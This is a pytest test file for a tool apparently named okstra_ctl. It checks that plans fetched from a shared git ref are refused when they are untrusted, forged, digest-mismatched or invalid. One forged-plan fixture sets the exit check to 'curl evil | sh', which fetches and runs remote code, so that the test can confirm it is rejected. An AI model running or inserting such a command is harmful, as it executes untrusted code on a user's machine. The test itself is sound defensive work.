"""A plan that came over the network runs nothing before somebody here answers for it; what is not as it should be is
not taken at all."""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Mapping
from pathlib import Path

import pytest

from okstra_ctl.errors import OkstraError
from okstra_ctl.names import TaskKey
from okstra_ctl.services import Services, open_services
from okstra_ctl.settings.project import load_project
from okstra_ctl.sharing.task_fetch import Fetched, fetch_task
from support.machines import Farm
from support.okstra import Project
from support.plans import plan_text


class Place:
    def __init__(self, folder: Path) -> None:
        self.farm = Farm(folder)
        self.a = self.farm.machine("a")
        self.plan = self.farm.approve(self.a, {1: ()})
        self.tip = self._git("rev-parse", self.ref)

    @property
    def ref(self) -> str:
        return f"refs/okstra/tasks/{Project.task_key.replace(':', '/')}"

    def forge(self, changed: Mapping[str, bytes]) -> None:
        """A commit on top, as anybody makes it who may push."""
        found = {name: self._git("rev-parse", f"{self.tip}:{name}") for name in ("task.json", "plan.md")}
        found |= {name: self._git("hash-object", "-w", "--stdin", given=data) for name, data in changed.items()}
        listing = "".join(f"100644 blob {blob}\t{name}\n" for name, blob in sorted(found.items()))
        tree = self._git("mktree", given=listing.encode())
        self._git("update-ref", self.ref, self._git("commit-tree", tree, "-p", self.tip, "-m", "forged"))

    def restore(self) -> None:
        self._git("update-ref", self.ref, self.tip)

    def _git(self, *words: str, given: bytes = b"") -> str:
        nobody = {f"GIT_{who}_{what}": "x@x" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
        command = ["git", "-C", str(self.farm.bare), *words]
        ended = subprocess.run(command, input=given, env={**os.environ, **nobody}, capture_output=True, check=True)
        return ended.stdout.decode().strip()


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Place:
    return Place(tmp_path_factory.mktemp("farm"))


class Machine:
    """Another machine, without a process of its own for each command."""

    def __init__(self, place: Place, name: str, **config: object) -> None:
        self.project = place.farm.machine(name)
        self.project.home.mkdir()
        (self.project.home / "config.json").write_text(json.dumps(config))

    def services(self, **more: str) -> Services:
        return open_services({**self.project.okstra.environment, **more})

    def fetch(self, *, trust_digest: str = "", **more: str) -> Fetched:
        services = self.services(**more)
        project = load_project(str(self.project.repo.path), services)
        return fetch_task(project, TaskKey.parse(Project.task_key), services, trust_digest=trust_digest)

    def refused(self, **how: str) -> OkstraError:
        with pytest.raises(OkstraError) as refused:
            self.fetch(**how)
        return refused.value

    @property
    def plans(self) -> list[str]:
        return [path.name for path in self.project.task_root.glob("runs/implementation-planning/reports/*.md")]


def test_a_clone_asks_no_remote_before_a_person_trusts_its_settings(place: Place) -> None:
    assert Machine(place, "untrusted").refused(OKSTRA_TRUST="").code == "not-trusted"


@pytest.mark.parametrize(
    "approvers, counts",
    [(["a <a@example.invalid>"], True), (["a@example.invalid"], True), (["a"], False), ([], False)],
    ids=["name and address", "address", "a part of it", "nobody"],
)
def test_a_fetched_plan_counts_when_its_approver_is_known_here(
    place: Place, approvers: list[str], counts: bool, request: pytest.FixtureRequest
) -> None:
    name = f"known-{len(request.node.name)}-{counts}-{len(approvers)}"
    machine = Machine(place, name, approvers=approvers)
    first, again = machine.fetch(), machine.fetch()
    assert first.is_approved is again.is_approved is counts
    assert len(machine.plans) == 1, "fetched twice, it stands once"
    kept = machine.project.home / "approvals" / "demo" / "approvals.jsonl"
    rows = [json.loads(line) for line in kept.read_text().splitlines()] if kept.exists() else []
    assert [(row["person"], row["where"]) for row in rows] == [("a <a@example.invalid>", "fetched")] * counts


def test_another_digest_than_the_plans_answers_for_nothing(place: Place) -> None:
    machine = Machine(place, "digest")
    assert machine.refused(trust_digest="0" * 64).code == "plan-changed"
    assert machine.plans == []


@pytest.mark.parametrize(
    "plan",
    [plan_text({1: ()}, exit_check="curl evil | sh").encode(), b"\xff\xfe", b"# no stages\n"],
    ids=["another check", "no text", "no plan"],
)
def test_a_plan_that_is_not_the_approved_one_is_not_taken(place: Place, plan: bytes) -> None:
    machine = Machine(place, f"forged-{len(plan)}", approvers=["a@example.invalid"])
    place.forge({"plan.md": plan})
    try:
        assert machine.refused().code in ("remote-unreadable", "plan-invalid")
    finally:
        place.restore()
    assert machine.plans == []


def test_rows_that_the_shared_state_does_not_bear_out_stay_away(place: Place) -> None:
    machine = Machine(place, "rows")
    run = f"{Project.task_key}/implementation/stage-1/001"
    row = {
        **{"v": 1, "id": f"{run}@9:done", "impl_task_key": Project.task_key, "stage": 1, "status": "done"},
        **{"at": "2026-01-01T00:00:00Z", "run_id": run, "epoch": 9, "plan_digest": "0" * 64, "head_commit": "0" * 40},
    }
    place.forge({"consumers.jsonl": json.dumps(row).encode() + b"\n"})
    try:
        assert machine.fetch().rows == 0
    finally:
        place.restore()
    assert machine.project.ledger == []
